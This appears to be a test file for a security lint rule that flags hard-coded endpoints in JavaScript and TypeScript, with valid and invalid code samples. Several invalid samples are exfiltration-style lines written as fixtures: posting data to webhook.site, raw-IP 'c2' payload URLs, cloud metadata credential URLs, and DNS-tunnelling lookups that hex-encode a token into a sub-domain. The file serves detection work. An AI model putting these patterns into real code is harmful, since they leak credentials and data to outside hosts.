import rule from '../../../src/core/rules/ts/hardcoded-endpoint';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    "const ns = 'http://www.w3.org/2000/svg';",
    "const el = document.createElementNS('http://www.w3.org/1999/xhtml', 'div');",
    "const schema = { $schema: 'https://json-schema.org/draft/2020-12/schema', type: 'object' };",
    "const pkg = { homepage: 'https://github.com/acme/tool', license: 'MIT' };",
    "const v = { version: '1.2.3.4' };",
    "const version = '10.0.0.1';",
    "const appVersion = '2.0.1.7';",
    "const semver = '1.2.3';",
    "module.exports = { meta: { docs: { description: 'x', url: 'https://eslint.org/docs/rules/x' } } };",
    "const oid = '1.3.6.1.4.1.311.21.8';",
    "const site = 'https://example.com/docs';",
    "const api = 'https://api.example.org/v1';",
    "const t = 'http://service.test/x';",
    "import x from 'https://cdn.test/mod.js';",
    "export * from 'https://cdn.test/mod.js';",
    "const m = import('https://cdn.test/mod.js');",
    "const r = require('http://x.test/y');",
    "const mask = '255.255.255.0';",
    "const ua = 'Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0 Safari/537.36';",
    "const ranges = ['173.245.48.0/20', '103.21.244.0/22'];",
    "const pkg = 'lib@1.2.3.4';",
    "const any = '0.0.0.0';",
    "const all6 = '::';",
    "const time = '12:30:45';",
    "const mac = 'aa:bb:cc:dd:ee:ff';",
    "const cpp = 'std::vector';",
    "const note = 'see docs';",
    'const u = `https://${host}/api`;',
    'const w = `${base}/v1/items`;',
    "const prefix = 'https://';",
    "await fetch('https://api.github.com/repos/acme/tool');",
    "import axios from 'axios'; axios.get('https://api.github.com/user');",
    "import axios from 'axios'; const client = axios.create({ baseURL: 'https://api.acme.dev' });",
    "import WebSocket from 'ws'; const ws = new WebSocket('wss://stream.acme.dev');",
    "throw new Error('See https://docs.acme.dev/errors/E42 for details');",
    "console.log('Server ready at http://localhost:3000');",
    { code: "const link = <a href='https://twitter.com/acme'>Twitter</a>;", filename: 'src/Footer.tsx' },
    { code: "const base = 'http://localhost:3000';", filename: 'test/api.test.ts' },
    { code: "const base = 'https://api.acme.dev';", filename: 'src/__tests__/client.test.ts' },
    { code: "const ip = '127.0.0.1';", filename: 'test/server.spec.js' },
    // Documentation ranges in tests are what RFC 5737 reserved them for.
    { code: "const ip = '203.0.113.7';", filename: 'test/ip.test.ts' },
    { code: "expect(parse('http://198.51.100.4/x').host).toBe('198.51.100.4');", filename: 'src/url.spec.ts' },
    "const reserved = '192.0.0.8';",
    "const bench = '198.18.0.1';",
    // File names, internal names and tenant hosts of cloud services are not data-built destinations.
    'const file = `${name}.min.js`;',
    'const out = `${base}.tar.gz`;',
    'const svc = `${name}.default.svc.cluster.local`;',
    'const bucket = `${name}.s3.amazonaws.com`;',
    'const pages = `${owner}.github.io`;',
    'const msg = `Resolved ${count} hosts.`;',
    'const u = `https://${tenant}.acme.dev/api`;',
    'const t = `${sub}.example.com`;',
    { code: 'const h = `${id}.canary.acme.net`;', filename: 'test/dns.test.ts' },
  ],
  invalid: [
    {
      code: "const API = 'https://api.stripe.com/v1';",
      errors: [
        {
          messageId: 'url',
          line: 1,
          column: 13,
          severity: 'low',
          message:
            'Hard-coded URL `https://api.stripe.com/v1`: a fixed endpoint decides where data goes; check the destination is expected.',
        },
      ],
    },
    { code: 'const API = `https://api.acme.dev/v2/users/${id}`;', errors: [{ messageId: 'url', severity: 'low' }] },
    { code: "const ws = 'wss://stream.acme.dev/feed';", errors: [{ messageId: 'url' }] },
    { code: "const f = 'ftp://files.acme.dev/pub';", errors: [{ messageId: 'url' }] },
    { code: "const base = 'http://localhost:3000';", errors: [{ messageId: 'localUrl', severity: 'low' }] },
    { code: "const db = 'http://192.168.1.20:8080/api';", errors: [{ messageId: 'localUrl', severity: 'low' }] },
    { code: "const host = '10.0.0.1';", errors: [{ messageId: 'localIp', severity: 'low' }] },
    { code: "const ip = '127.0.0.1';", errors: [{ messageId: 'localIp' }] },
    { code: "const ip6 = '::1';", errors: [{ messageId: 'localIp' }] },
    { code: "const ip6 = 'fe80::1ff:fe23:4567:890a';", errors: [{ messageId: 'localIp' }] },
    {
      code: "const host = '45.33.32.156:4444';",
      errors: [
        {
          messageId: 'rawIp',
          severity: 'medium',
          message:
            'Hard-coded public IP address `45.33.32.156:4444`: a raw address skips the names a reviewer would recognize and is typical of command-and-control or exfiltration endpoints.',
        },
      ],
    },
    { code: "const c2 = 'http://45.33.32.156/payload';", errors: [{ messageId: 'rawIp', severity: 'medium' }] },
    { code: "const c2 = '2606:4700:4700::1111';", errors: [{ messageId: 'rawIp', severity: 'medium' }] },
    { code: "const c2 = '[2606:4700:4700::1111]:8443';", errors: [{ messageId: 'rawIp' }] },
    { code: "const c2 = 'http://[2606:4700::1111]:8080/x';", errors: [{ messageId: 'rawIp' }] },
    { code: "await fetch('http://45.33.32.156/x');", errors: [{ messageId: 'rawIp', severity: 'medium' }] },
    { code: 'const u = `http://45.33.32.156:${port}/x`;', errors: [{ messageId: 'rawIp' }] },
    { code: "const dns = '8.8.8.8';", errors: [{ messageId: 'rawIp' }] },
    { code: "const list = 'servers: 45.33.32.156, 10.0.0.2';", errors: [{ messageId: 'rawIp' }] },
    {
      code: "const PEERS = ['45.33.32.156', '45.33.32.157', '45.33.32.158'];",
      errors: [{ messageId: 'rawIp', column: 16, severity: 'medium' }],
    },
    { code: "const HOOK = 'https://discord.com/api/webhooks/123/abc';", errors: [{ messageId: 'drop', severity: 'medium' }] },
    { code: 'const t = `https://api.telegram.org/bot${TOKEN}/sendMessage`;', errors: [{ messageId: 'drop' }] },
    { code: "const s = 'https://hooks.slack.com/services/T0/B0/x';", errors: [{ messageId: 'drop' }] },
    {
      code: "const p = 'https://pastebin.com/raw/abcd';",
      errors: [
        {
          messageId: 'drop',
          message:
            '`https://pastebin.com/raw/abcd` points at pastebin.com, a paste, webhook or tunnel service: whoever holds the link receives what is sent there, a classic exfiltration channel.',
        },
      ],
    },
    { code: "const p = 'https://abcd-1-2-3-4.ngrok-free.app/x';", errors: [{ messageId: 'drop' }] },
    { code: "const p = 'https://webhook.site/1234-5678';", errors: [{ messageId: 'drop' }] },
    { code: "const p = 'https://eo123.m.pipedream.net';", errors: [{ messageId: 'drop' }] },
    { code: "const p = 'https://transfer.sh/upload';", errors: [{ messageId: 'drop' }] },
    { code: "const p = 'https://x.trycloudflare.com';", errors: [{ messageId: 'drop' }] },
    { code: "await fetch('https://webhook.site/abc', { method: 'POST', body });", errors: [{ messageId: 'drop', severity: 'medium' }] },
    { code: "const p = 'https://webhook.site/abc';", filename: 'test/x.test.ts', errors: [{ messageId: 'drop', severity: 'medium' }] },
    {
      code: "const u = 'https://admin:hunter2@db.acme.dev/x';",
      errors: [
        {
          messageId: 'credentials',
          severity: 'medium',
          message:
            'URL with embedded credentials `https://admin:***@db.acme.dev/x`: the secret is in the code, and the endpoint receives it.',
        },
      ],
    },
    {
      code: "const meta = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';",
      errors: [{ messageId: 'metadata', severity: 'high' }],
    },
    { code: "const meta = 'http://metadata.google.internal/computeMetadata/v1/';", errors: [{ messageId: 'metadata', severity: 'high' }] },
    { code: "const ip = '169.254.169.254';", errors: [{ messageId: 'metadata' }] },
    { code: "const ep = 'Endpoint: http://api.acme.dev and https://pastebin.com/raw/x';", errors: [{ messageId: 'drop' }] },
    { code: "const cfg = { url: 'https://hooks.acme.dev/in' };", errors: [{ messageId: 'url' }] },
    { code: "const link = <a href='http://45.33.32.156/'>x</a>;", filename: 'src/App.jsx', errors: [{ messageId: 'rawIp' }] },
    { code: "const BASE = 'http://45.33.32.156'; await fetch(BASE + '/x');", errors: [{ messageId: 'rawIp' }] },
    { code: "const BASE = 'https://api.acme.dev'; console.info(BASE);", errors: [{ messageId: 'url' }] },
    {
      code: "const API_BASE = 'https://api.acme.dev/v1';\nexport const getUser = (id) => fetch(`${API_BASE}/users/${id}`);",
      errors: [{ messageId: 'url', line: 1 }],
    },
    {
      code: "import axios from 'axios'; await axios.get('https://x.acme.dev/a', { params: { next: 'https://y.acme.dev' } });",
      errors: [{ messageId: 'url' }],
    },
    { code: "const doc = { docs: 'https://pastebin.com/raw/zz' };", errors: [{ messageId: 'drop' }] },
    // Documentation ranges stand in for real public addresses in code under review.
    {
      code: "const DEFAULTS = { host: '198.51.100.23', port: 8125, prefix: 'taskq' };",
      errors: [{ messageId: 'rawIp', severity: 'medium', line: 1 }],
    },
    { code: "const PROFILER = 'http://203.0.113.50:8000/v1/profile';", errors: [{ messageId: 'rawIp', severity: 'medium' }] },
    { code: "const peer = '192.0.2.10:4444';", errors: [{ messageId: 'rawIp' }] },
    { code: "const v6 = '2001:db8::1';", errors: [{ messageId: 'rawIp' }] },
    // Host names whose first labels come from data: DNS tunnelling.
    {
      code: 'const names = [`${cacheKey()}.canary.mdsite-docs.net`, ...hosts];',
      errors: [
        {
          messageId: 'dynamicHost',
          severity: 'medium',
          message:
            'Host name `*.canary.mdsite-docs.net` is built from data (`${cacheKey()}.canary.mdsite-docs.net`): looking it up or connecting to it sends that data, as a sub-domain, to whoever runs `mdsite-docs.net` (DNS tunnelling needs no open connection and passes most firewalls).',
        },
      ],
    },
    { code: "import dns from 'dns'; dns.lookup(`${hex}.${id}.t.exfil.xyz`, () => {});", errors: [{ messageId: 'dynamicHost' }] },
    { code: 'const host = `${Buffer.from(token).toString("hex")}.collector.io`;', errors: [{ messageId: 'dynamicHost' }] },
  ],
});
